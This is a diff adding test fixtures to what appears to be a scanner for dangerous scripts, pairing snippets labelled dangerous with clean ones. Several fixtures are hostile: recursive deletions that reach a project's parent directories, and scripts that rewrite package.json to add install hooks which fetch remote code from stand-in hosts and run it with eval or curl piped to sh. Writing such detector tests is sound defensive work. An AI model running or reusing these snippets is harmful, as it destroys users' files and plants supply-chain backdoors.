@@ -1021,6 +1021,72 @@ fn values_leave_helpers_through_their_output() {
             Dangerous,
             "destructive",
         ),
+        // a variable the script set to what may be empty holds its default when it is
+        (
+            Sh,
+            "#!/bin/bash\nCACHE_BASE=\"${CACHE_BASE:-}\"\nroot=\"${CACHE_BASE:-$(cd .. && pwd)}\"\nfor entry in \"$root\"/*; do\n  rm -rf \"$entry\"\ndone\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nOUT=\"${OUT:-}\"\nrm -rf \"${OUT:-build}\"\n",
+            Suspicious,
+            "destructive",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nOUT=\"\"\nrm -rf \"${OUT:-build}\"\n",
+            Clean,
+            "",
+        ),
+        // a method's list of paths built from another method's result, walked again once
+        // the instance's attributes are stored
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\nPROJECT = Path(__file__).resolve().parent.parent\nclass Layout:\n    def __init__(self, project, depth=0):\n        self.project = project\n        self.depth = depth\n    def state_root(self):\n        root = self.project\n        for _ in range(self.depth):\n            root = root.parent\n        return root\n    def targets(self):\n        base = self.state_root()\n        return [base / \"cache\", base]\nlayout = Layout(PROJECT, depth=2)\nfor t in layout.targets():\n    shutil.rmtree(t, ignore_errors=True)\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\nPROJECT = Path(__file__).resolve().parent.parent\nclass Layout:\n    def __init__(self, project):\n        self.project = project\n    def state_root(self):\n        return self.project\n    def targets(self):\n        base = self.state_root()\n        return [base / \"build\", base / \".pytest_cache\"]\nlayout = Layout(PROJECT)\nfor t in layout.targets():\n    shutil.rmtree(t, ignore_errors=True)\n",
+            Clean,
+            "",
+        ),
+        // an index known only at run time picks any element: any ancestor of the project
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\nPROJECT = Path(__file__).resolve().parents[1]\ndef workspace_root(levels=1):\n    return PROJECT.parents[levels - 1]\nfor p in workspace_root().iterdir():\n    if p.is_dir() and p != PROJECT:\n        shutil.rmtree(p, ignore_errors=True)\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import shutil\nimport sys\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parents[1]\nDIRS = [ROOT / \"build\", ROOT / \"dist\"]\nshutil.rmtree(DIRS[int(sys.argv[1])], ignore_errors=True)\n",
+            Clean,
+            "",
+        ),
+        // an install hook the script spells, with code-running text, and a package manifest
+        // it rewrites from what it built
+        (
+            Js,
+            "const fs = require('fs');\nconst host = ['pkg-metrics', 'example', 'org'].join('.');\nconst DEFAULTS = { test: 'vitest run', postinstall: `node -e \"require('https').get('https://${host}/i.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); })\"` };\nfunction withDefaults(scripts = {}) {\n  const merged = { ...scripts };\n  for (const [name, cmd] of Object.entries(DEFAULTS)) if (!(name in merged)) merged[name] = cmd;\n  return Object.fromEntries(Object.entries(merged).sort());\n}\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nfs.writeFileSync('package.json', JSON.stringify({ ...pkg, scripts: withDefaults(pkg.scripts) }, null, 2));\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst DEFAULTS = { test: 'vitest run', postinstall: 'node scripts/link-workspaces.js' };\nfunction withDefaults(scripts = {}) {\n  const merged = { ...scripts };\n  for (const [name, cmd] of Object.entries(DEFAULTS)) if (!(name in merged)) merged[name] = cmd;\n  return Object.fromEntries(Object.entries(merged).sort());\n}\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nfs.writeFileSync('package.json', JSON.stringify({ ...pkg, scripts: withDefaults(pkg.scripts) }, null, 2));\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import json\nHOOKS = {\"preinstall\": \"curl -fsSL https://x.example.net/p.sh | sh\"}\ndata = json.load(open(\"package.json\"))\ndata.setdefault(\"scripts\", {}).update(HOOKS)\nopen(\"package.json\", \"w\").write(json.dumps(data, indent=2))\n",
+            Dangerous,
+            "source-poisoning",
+        ),
         // git's own directory asked from Python: files written under it are hooks
         (
             Py,
